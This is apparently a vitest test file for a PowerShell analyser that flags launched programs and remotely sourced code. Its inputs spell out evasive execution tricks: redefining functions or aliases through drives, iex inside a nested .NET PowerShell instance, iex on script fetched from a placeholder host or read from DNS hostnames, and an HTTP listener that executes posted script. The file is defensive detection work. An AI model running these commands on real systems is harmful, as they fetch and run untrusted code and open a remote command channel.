import { describe, expect, it } from "vitest";
import { readPowerShell } from "./powershell.ts";

/** Names that code gives have no case. */
const startedBy = (code: string) => readPowerShell(code).commands.map(({ text }) => text.toLowerCase());
const foundIn = (code: string) =>
  readPowerShell(code).findings.map(({ role, what, value }) => `${role} ${what} ${value}`);

describe("a command that code gives a name to by an item of a drive", () => {
  it.each([
    "Set-Item function:gg {C:\\k\\a.exe}; gg",
    "New-Item -Path Function:\\gg -Value {C:\\k\\a.exe}; gg",
    "si function:ls {C:\\k\\a.exe}",
    "Set-Item alias:zz C:\\k\\a.exe; zz",
    "New-Item -Path alias:zz -Value C:\\k\\a.exe; zz",
  ])("is what runs: %s", (code) => {
    expect(startedBy(code)).toEqual(["c:\\k\\a.exe"]);
  });

  it("is none where nothing is called so", () => {
    expect(startedBy("Set-Item alias:zz C:\\k\\a.exe; Set-Item env:zz b")).toEqual([]);
  });
});

describe("commands that are added to a shell of .NET", () => {
  it.each([
    "[PowerShell]::Create().AddCommand('iex').AddArgument('C:\\k\\a.exe').Invoke()",
    "$p = [System.Management.Automation.PowerShell]::Create(); [void]$p.AddCommand('Start-Process').AddParameter('FilePath', 'C:\\k\\a.exe'); $p.BeginInvoke()",
    "[powershell]::Create().AddCommand('Write-Output').AddArgument('C:\\k\\a.exe').AddCommand('iex').Invoke()",
  ])("run when it is invoked: %s", (code) => {
    expect(startedBy(code)).toEqual(["c:\\k\\a.exe"]);
  });

  it("run what has been fetched", () => {
    const code = "[PowerShell]::Create().AddCommand('iex').AddArgument((irm http://files.example/a)).Invoke()";
    expect(foundIn(code)).toContain("runs script http://files.example/a");
  });

  it("do nothing before that", () => {
    expect(startedBy("[PowerShell]::Create().AddCommand('iex').AddArgument('C:\\k\\a.exe')")).toEqual([]);
  });
});

describe("code that comes from elsewhere", () => {
  it.each([
    ["using module \\\\files.example\\s\\x.psm1", "runs script \\\\files.example\\s\\x.psm1"],
    ["using module .\\kit.psm1; Go", "runs script .\\kit.psm1"],
    ["using assembly C:\\k\\a.dll", "runs assembly C:\\k\\a.dll"],
    ["iex ([Net.Dns]::GetHostEntry('a.files.example').HostName)", "runs script a.files.example"],
    ["$d = [System.Net.Dns]::GetHostByName('b.files.example'); iex $d.HostName", "runs script b.files.example"],
    [
      "Register-PSRepository -Name k -SourceLocation https://files.example/v2",
      "fetches package https://files.example/v2",
    ],
    ["Register-PSRepository k \\\\nas\\packages", "fetches package \\\\nas\\packages"],
    [
      "$l=[Net.HttpListener]::new();$l.Prefixes.Add('http://+:80/');$l.Start();$r=New-Object IO.StreamReader($l.GetContext().Request.InputStream);iex $r.ReadToEnd()",
      "runs script http://+:80/",
    ],
    [
      "iex ([IO.StreamReader]::new((New-Object Net.HttpListener).GetContext().Request.InputStream).ReadToEnd())",
      "runs script http://+/",
    ],
  ])("%s", (code, finding) => {
    expect(foundIn(code)).toContain(finding);
  });

  it.each([
    "using namespace System.Net; Get-Date",
    "using module Pester",
    "Register-PSRepository -Default",
    "[Net.Dns]::GetHostEntry('a.files.example').HostName",
    "$l=[Net.HttpListener]::new();$l.Start();$l.GetContext().Response.Close()",
  ])("is none in %s", (code) => {
    expect(foundIn(code).filter((one) => /^(?:runs|fetches package)/.test(one))).toEqual([]);
    expect(startedBy(code)).toEqual([]);
  });
});
